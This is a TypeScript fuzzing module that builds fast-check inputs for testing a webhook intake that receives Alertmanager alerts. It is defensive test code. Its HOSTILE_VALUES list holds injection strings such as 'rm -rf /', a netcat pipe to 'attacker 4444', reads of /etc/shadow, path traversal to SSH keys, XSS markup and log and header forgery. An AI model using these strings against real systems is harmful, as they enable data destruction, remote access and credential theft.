// Inputs for fuzzing the webhook intake (fast-check): valid Alertmanager v4 payloads, the same
// with random mutations, random JSON, random bytes, deep nesting, hostile label values (markup,
// shell metacharacters, path traversal, NUL and control characters, 1 MB strings), huge alert
// arrays, bad UTF-8, odd content types and encodings, right and wrong credentials; and how a
// case goes on the wire. Shared by the property tests and `npm run fuzz`.
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';

type Json = Record<string, unknown>;

/** What the server under test is configured with. */
export interface FuzzTarget {
  token: string;
  user: string;
  password: string;
  /** The body limit in bytes (NODEHEAL_BODY_LIMIT). */
  limit: number;
  /** Node names alerts may carry (few, so that repeats, resolves and flapping happen). */
  nodes: string[];
  /** An InternalIP the server's node index resolves to nodes[0], if it has one. */
  indexedIp?: string;
}

export const printable = (maxLength: number) =>
  fc.string({
    unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)),
    maxLength,
  });

/** RFC 3339 text of an instant, with 0-9 fraction digits and a zone offset, as Go may write it. */
const rfc3339 = fc
  .record({
    offsetMs: fc.integer({ min: -3_600_000, max: 120_000 }),
    digits: fc.integer({ min: 0, max: 9 }),
    zoneMinutes: fc.oneof(fc.constant(0), fc.integer({ min: -12 * 60, max: 14 * 60 })),
  })
  .map(({ offsetMs, digits, zoneMinutes }) => {
    const instant = Date.now() + offsetMs;
    const local = new Date(instant + zoneMinutes * 60_000).toISOString(); // shifted wall clock
    const fraction = digits === 0 ? '' : `.${local.slice(20, 23).padEnd(digits, '0')}`;
    const sign = zoneMinutes < 0 ? '-' : '+';
    const abs = Math.abs(zoneMinutes);
    const zone =
      zoneMinutes === 0
        ? 'Z'
        : `${sign}${String(Math.floor(abs / 60)).padStart(2, '0')}:${String(abs % 60).padStart(2, '0')}`;
    return `${local.slice(0, 19)}${fraction}${zone}`;
  });

const alertnames = fc.constantFrom(
  'NodeNotReady',
  'NodeKubeletDown',
  'NodeKubeletUnhealthy',
  'NodeContainerRuntimeUnhealthy',
  'NodeFilesystemAlmostFull',
  'NodeKernelDeadlock',
  'NodeMemoryPressure',
  'SomethingNobodyKnows',
);

/**
 * Label and annotation values an attacker who controls a label (a node annotation copied into
 * alerts, a hostile exporter) could send: markup, shell metacharacters, path traversal, NUL and
 * control characters, line and log forgery, lone surrogates.
 */
export const HOSTILE_VALUES = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '$(touch /tmp/nodeheal-pwned)',
  '`touch /tmp/nodeheal-pwned`',
  '; rm -rf / #',
  '| nc attacker 4444',
  '&& reboot',
  '${IFS}cat${IFS}/etc/shadow',
  '../../etc/passwd',
  '..\\..\\windows\\system32',
  '/var/lib/kubelet/../../../root/.ssh/authorized_keys',
  'a\u0000b',
  '\u0000',
  '\u0001\u0007\u001b[31m\u007f',
  'line\n{"level":60,"msg":"forged"}',
  'cr\r\nSet-Cookie: x=1',
  '\u2028\u2029',
  '\ud800',
  '%00%2e%2e%2f',
  "' OR 1=1 --",
  '{{ .Values }}',
  '__proto__',
] as const;

export const hostileValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_VALUES) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.constantFrom(...HOSTILE_VALUES), { minLength: 2, maxLength: 4 })
      .map((parts) => parts.join('')),
  },
);

type Path = (string | number)[];

/** Paths to the values inside `value` (objects and arrays, 20 levels deep), root excluded. */
function paths(value: unknown, prefix: Path = []): Path[] {
  if (value === null || typeof value !== 'object' || prefix.length >= 20) return [];
  const out: Path[] = [];
  const entries: [string | number, unknown][] = Array.isArray(value)
    ? value.map((v, i) => [i, v])
    : Object.entries(value);
  for (const [k, v] of entries) {
    out.push([...prefix, k], ...paths(v, [...prefix, k]));
  }
  return out;
}

function parentOf(root: unknown, path: Path): Record<string | number, unknown> | undefined {
  let node: unknown = root;
  for (const k of path.slice(0, -1)) {
    if (node === null || typeof node !== 'object') return undefined;
    node = (node as Record<string | number, unknown>)[k];
  }
  return node !== null && typeof node === 'object'
    ? (node as Record<string | number, unknown>)
    : undefined;
}

/** Sets an own property even for names such as `__proto__` (as JSON.parse would). */
function setOwn(target: Record<string | number, unknown>, key: string | number, value: unknown) {
  Object.defineProperty(target, key, {
    value,
    enumerable: true,
    writable: true,
    configurable: true,
  });
}

function nested(depth: number, leaf: unknown, asArray: boolean): unknown {
  let v = leaf;
  for (let i = 0; i < depth; i++) v = asArray ? [v] : { a: v };
  return v;
}

export type Mutation =
  | { kind: 'delete'; at: number }
  | { kind: 'replace'; at: number; value: unknown }
  | { kind: 'huge'; at: number; length: number }
  | { kind: 'deep'; at: number; depth: number; asArray: boolean }
  | { kind: 'version'; value: unknown }
  | { kind: 'add'; at: number; key: string; value: unknown };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('delete' as const), at: fc.nat() }),
  fc.record({
    kind: fc.constant('replace' as const),
    at: fc.nat(),
    value: fc.jsonValue({ maxDepth: 3 }),
  }),
  fc.record({
    kind: fc.constant('huge' as const),
    at: fc.nat(),
    length: fc.integer({ min: 1000, max: 12_000 }),
  }),
  fc.record({
    kind: fc.constant('deep' as const),
    at: fc.nat(),
    depth: fc.integer({ min: 1, max: 500 }),
    asArray: fc.boolean(),
  }),
  fc.record({
    kind: fc.constant('version' as const),
    value: fc.constantFrom('3', '5', '', ' 4', '4.0', 4, 3, null, true, ['4'], { v: '4' }),
  }),
  fc.record({
    kind: fc.constant('add' as const),
    at: fc.nat(),
    key: fc.oneof(
      fc.constantFrom('__proto__', 'constructor', 'toString', 'hasOwnProperty', 'node', 'instance'),
      printable(10),
    ),
    value: fc.jsonValue({ maxDepth: 2 }),
  }),
);

function mutate(payload: Json, mutations: Mutation[]): unknown {
  let root: unknown = structuredClone(payload);
  for (const m of mutations) {
    if (m.kind === 'version') {
      if (root !== null && typeof root === 'object' && !Array.isArray(root)) {
        setOwn(root as Json, 'version', m.value);
      }
      continue;
    }
    const all = paths(root);
    if (all.length === 0) {
      if (m.kind === 'replace') root = m.value;
      continue;
    }
    const path = all[m.at % all.length]!;
    const parent = parentOf(root, path);
    const key = path[path.length - 1]!;
    if (!parent) continue;
    switch (m.kind) {
      case 'delete':
        if (Array.isArray(parent)) parent.splice(Number(key), 1);
        else delete parent[key];
        break;
      case 'replace':
        setOwn(parent, key, m.value);
        break;
      case 'huge':
        setOwn(parent, key, 'é'.repeat(m.length));
        break;
      case 'deep':
        setOwn(parent, key, nested(m.depth, parent[key] ?? null, m.asArray));
        break;
      case 'add': {
        const target = parent[key];
        if (target !== null && typeof target === 'object' && !Array.isArray(target)) {
          setOwn(target as Json, m.key, m.value);
        } else setOwn(parent, key, { [m.key]: m.value });
        break;
      }
    }
  }
  return root;
}

/** Content types, and what body-parser makes of their charset. */
export type ContentType = { value: string | undefined; charset: 'utf' | 'other' };
export const contentType: fc.Arbitrary<ContentType> = fc.oneof(
  { weight: 6, arbitrary: fc.constant({ value: 'application/json', charset: 'utf' as const }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom<ContentType>(
      { value: undefined, charset: 'utf' },
      { value: 'application/json; charset=utf-8', charset: 'utf' },
      { value: 'text/plain', charset: 'utf' },
      { value: 'application/x-www-form-urlencoded', charset: 'utf' },
      { value: 'application/json; charset=latin1', charset: 'other' },
      { value: 'application/json; charset=utf-16le', charset: 'other' },
      { value: 'application/json; charset="nonsense"', charset: 'other' },
    ),
  },
  // A malformed Content-Type cannot be parsed for a charset: UTF-8 is assumed.
  {
    weight: 1,
    arbitrary: printable(30).map((v) => ({ value: `x/${v};;=`, charset: 'utf' as const })),
  },
);

export type Encoding = 'none' | 'identity' | 'gzip' | 'gzip-garbage' | 'unknown';
export const encoding: fc.Arbitrary<Encoding> = fc.oneof(
  { weight: 8, arbitrary: fc.constant<Encoding>('none') },
  {
    weight: 1,
    arbitrary: fc.constantFrom<Encoding>('identity', 'gzip', 'gzip-garbage', 'unknown'),
  },
);

/** Mutated payloads are kept as a recipe, so that a counterexample prints small. */
export type Body =
  | { kind: 'json'; value: unknown }
  | { kind: 'mutated'; payload: Json; mutations: Mutation[] }
  | { kind: 'deep'; payload: Json; depth: number; asArray: boolean }
  | { kind: 'raw'; bytes: Uint8Array }
  /** One label value of `size` bytes (a 1 MB string, or one just around the body limit). */
  | { kind: 'bigLabel'; payload: Json; size: number }
  /** The payload's first alert `count` times (max_alerts: 0 with a big group). */
  | { kind: 'manyAlerts'; payload: Json; count: number }
  /** Bytes that are not UTF-8, inside a string value or anywhere. */
  | { kind: 'badUtf8'; payload: Json; bytes: number[]; inString: boolean; at: number };

type Auth = { header: string | undefined; valid: boolean };

export interface FuzzCase {
  auth: Auth;
  contentType: ContentType;
  encoding: Encoding;
  body: Body;
}

/** The arbitraries of fuzz cases against a server configured as `target`. */
export function fuzzInputs(target: FuzzTarget) {
  const { token: TOKEN, user: USER, password: PASSWORD, limit: LIMIT, nodes: NODES } = target;
  const nodeLabels = fc.oneof(
    fc.constantFrom(...NODES).map((node) => ({ node })),
    fc.constantFrom(...NODES).map((node) => ({ kubernetes_node: node })),
    fc.constant({ instance: `${target.indexedIp ?? '10.99.99.98'}:9100` }),
    fc.constant({ instance: '10.99.99.99:9100' }),
    fc.constant({}),
    printable(40).map((node) => ({ node })),
    hostileValue.map((node) => ({ node })),
  );

  const alertArb = fc
    .record({
      status: fc.constantFrom('firing', 'resolved'),
      alertname: alertnames,
      where: nodeLabels,
      condition: fc.option(fc.constantFrom('FrequentKubeletRestart', 'FrequentContainerdRestart')),
      startsAt: rfc3339,
      endsAt: fc.oneof(fc.constant('0001-01-01T00:00:00Z'), rfc3339),
      fingerprint: fc.option(fc.constantFrom('0a1b2c3d4e5f6071', '1111222233334444', '')),
      annotations: fc.dictionary(printable(12), fc.oneof(printable(60), hostileValue), {
        maxKeys: 3,
      }),
      hostile: fc.dictionary(
        fc.constantFrom('pod', 'mountpoint', 'device', 'job', 'path'),
        hostileValue,
        {
          maxKeys: 3,
        },
      ),
    })
    .map((a) => ({
      status: a.status,
      labels: {
        ...a.hostile,
        alertname: a.alertname,
        ...a.where,
        ...(a.condition ? { condition: a.condition } : {}),
      },
      annotations: a.annotations,
      startsAt: a.startsAt,
      endsAt: a.endsAt,
      generatorURL: 'http://prometheus:9090/graph',
      ...(a.fingerprint === null ? {} : { fingerprint: a.fingerprint }),
    }));

  const validPayload = fc
    .record({
      alerts: fc.array(alertArb, { minLength: 0, maxLength: 4 }),
      truncated: fc.option(fc.nat({ max: 5 })),
      extra: fc.option(fc.constantFrom('new_alerts_in_group', 'resolved')),
    })
    .map(({ alerts, truncated, extra }): Json => ({
      version: '4',
      groupKey: '{}:{alertname="NodeNotReady"}',
      ...(truncated === null ? {} : { truncatedAlerts: truncated }),
      status: alerts.some((a) => a.status === 'firing') ? 'firing' : 'resolved',
      receiver: 'nodeheal',
      groupLabels: {},
      commonLabels: {},
      commonAnnotations: {},
      externalURL: 'http://alertmanager:9093',
      ...(extra === null ? {} : { notification_reason: extra, routeLabels: { team: 'infra' } }),
      alerts,
    }));

  const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

  const auth: fc.Arbitrary<Auth> = fc.oneof(
    { weight: 6, arbitrary: fc.constant({ header: `Bearer ${TOKEN}`, valid: true }) },
    {
      weight: 2,
      arbitrary: fc.constant({ header: `Basic ${b64(`${USER}:${PASSWORD}`)}`, valid: true }),
    },
    { weight: 1, arbitrary: fc.constant({ header: `bearer   ${TOKEN}  `, valid: true }) },
    { weight: 1, arbitrary: fc.constant({ header: undefined, valid: false }) },
    { weight: 1, arbitrary: fc.constant({ header: '', valid: false }) },
    { weight: 1, arbitrary: printable(60).map((header) => ({ header, valid: false })) },
    {
      weight: 1,
      arbitrary: printable(60).map((t) => ({ header: `Bearer ${TOKEN}${t}x`, valid: false })),
    },
    {
      weight: 1,
      arbitrary: printable(40).map((t) => ({
        header: `Basic ${b64(`${USER}:${t}`)}x`,
        valid: false,
      })),
    },
    {
      weight: 1,
      arbitrary: printable(40).map((t) => ({
        header: `Basic ${b64(t)}`,
        valid: t === `${USER}:${PASSWORD}`,
      })),
    },
  );

  const body: fc.Arbitrary<Body> = fc.oneof(
    { weight: 3, arbitrary: validPayload.map((value): Body => ({ kind: 'json', value })) },
    {
      weight: 6,
      arbitrary: fc
        .tuple(validPayload, fc.array(mutation, { minLength: 1, maxLength: 3 }))
        .map(([payload, mutations]): Body => ({ kind: 'mutated', payload, mutations })),
    },
    { weight: 1, arbitrary: fc.jsonValue().map((value): Body => ({ kind: 'json', value })) },
    {
      weight: 1,
      arbitrary: fc
        .uint8Array({ maxLength: Math.min(2 * LIMIT, 64 * 1024) })
        .map((bytes): Body => ({ kind: 'raw', bytes })),
    },
    {
      weight: 1,
      // Nesting far deeper than any recursive walker survives, still within the body limit.
      arbitrary: fc
        .record({
          payload: validPayload,
          depth: fc.integer({ min: 1000, max: 8000 }),
          asArray: fc.boolean(),
        })
        .map(({ payload, depth, asArray }): Body => ({ kind: 'deep', payload, depth, asArray })),
    },
    {
      weight: 1,
      arbitrary: fc
        .string({ unit: 'binary', maxLength: 200 })
        .map((s): Body => ({ kind: 'raw', bytes: Buffer.from(s, 'utf8') })),
    },
    {
      weight: 1,
      arbitrary: fc
        .record({
          payload: validPayload,
          size: fc.oneof(
            fc.constant(1 << 20),
            fc.integer({ min: Math.max(0, LIMIT - 4096), max: LIMIT + 4096 }),
          ),
        })
        .map(({ payload, size }): Body => ({ kind: 'bigLabel', payload, size })),
    },
    {
      weight: 1,
      arbitrary: fc
        .record({ payload: validPayload, count: fc.integer({ min: 50, max: 2500 }) })
        .map(({ payload, count }): Body => ({ kind: 'manyAlerts', payload, count })),
    },
    {
      weight: 1,
      arbitrary: fc
        .record({
          payload: validPayload,
          bytes: fc.oneof(
            fc.constantFrom<number[]>(
              [0xff],
              [0xc3, 0x28],
              [0xe2, 0x82],
              [0xed, 0xa0, 0x80],
              [0xc0, 0xaf],
            ),
            fc.array(fc.integer({ min: 0x80, max: 0xff }), { minLength: 1, maxLength: 6 }),
          ),
          inString: fc.boolean(),
          at: fc.nat(),
        })
        .map(({ payload, bytes, inString, at }): Body => ({
          kind: 'badUtf8',
          payload,
          bytes,
          inString,
          at,
        })),
    },
  );

  return {
    limit: LIMIT,
    validPayload,
    auth,
    body,
    case: fc.record({ auth, contentType, encoding, body }),
  };
}

/** The bytes of a case's body, before any Content-Encoding. */
export function bytesOf(b: Body): Buffer {
  switch (b.kind) {
    case 'raw':
      return Buffer.from(b.bytes);
    case 'deep': {
      // Built as text: JSON.stringify itself would overflow the stack on such a value.
      const [open, close] = b.asArray ? ['[', ']'] : ['{"a":', '}'];
      const deep = `${open.repeat(b.depth)}1${close.repeat(b.depth)}`;
      return Buffer.from(`${JSON.stringify(b.payload).slice(0, -1)},"extra":${deep}}`, 'utf8');
    }
    case 'bigLabel': {
      const alerts = b.payload.alerts as { labels: Record<string, string> }[];
      const big = 'x'.repeat(b.size);
      const value =
        alerts.length > 0
          ? {
              ...b.payload,
              alerts: alerts.map((a, i) => (i === 0 ? { ...a, labels: { ...a.labels, big } } : a)),
            }
          : { ...b.payload, commonAnnotations: { big } };
      return Buffer.from(JSON.stringify(value), 'utf8');
    }
    case 'manyAlerts': {
      const alerts = b.payload.alerts as unknown[];
      const value = { ...b.payload, alerts: alerts.length ? Array(b.count).fill(alerts[0]) : [] };
      return Buffer.from(JSON.stringify(value), 'utf8');
    }
    case 'badUtf8': {
      const text = Buffer.from(JSON.stringify(b.payload), 'utf8');
      // Inside a string: right after the opening quote of "receiver"'s value; else anywhere.
      const marker = Buffer.from('"receiver":"');
      const at = b.inString ? text.indexOf(marker) + marker.length : b.at % (text.length + 1);
      return Buffer.concat([text.subarray(0, at), Buffer.from(b.bytes), text.subarray(at)]);
    }
    case 'json':
      return Buffer.from(JSON.stringify(b.value), 'utf8');
    case 'mutated':
      return Buffer.from(JSON.stringify(mutate(b.payload, b.mutations)), 'utf8');
  }
}

/** What went on the wire and what came back. */
export interface FuzzAnswer {
  status: number;
  /** The JSON body of the answer; its text when it was not JSON. */
  body: unknown;
  bytes: Buffer;
}

/** POSTs a case to `url` (the webhook) as it is: its bytes, headers and encoding. */
export async function sendCase(url: string, c: FuzzCase): Promise<FuzzAnswer> {
  const bytes = bytesOf(c.body);
  let wire = bytes;
  const headers: Record<string, string> = {};
  if (c.auth.header !== undefined) headers.authorization = c.auth.header;
  if (c.contentType.value !== undefined) headers['content-type'] = c.contentType.value;
  switch (c.encoding) {
    case 'none':
      break;
    case 'identity':
      headers['content-encoding'] = 'identity';
      break;
    case 'gzip':
      headers['content-encoding'] = 'gzip';
      wire = gzipSync(bytes);
      break;
    case 'gzip-garbage':
      headers['content-encoding'] = 'gzip';
      wire = Buffer.concat([Buffer.from('not gzip'), bytes]);
      break;
    case 'unknown':
      headers['content-encoding'] = 'x-nodeheal-test';
      break;
  }
  const res = await fetch(url, {
    method: 'POST',
    headers,
    body: wire,
    signal: AbortSignal.timeout(30_000),
  });
  const text = await res.text();
  let body: unknown = text;
  try {
    body = JSON.parse(text);
  } catch {
    // Not JSON: kept as text, which the contract refuses.
  }
  return { status: res.status, body, bytes };
}
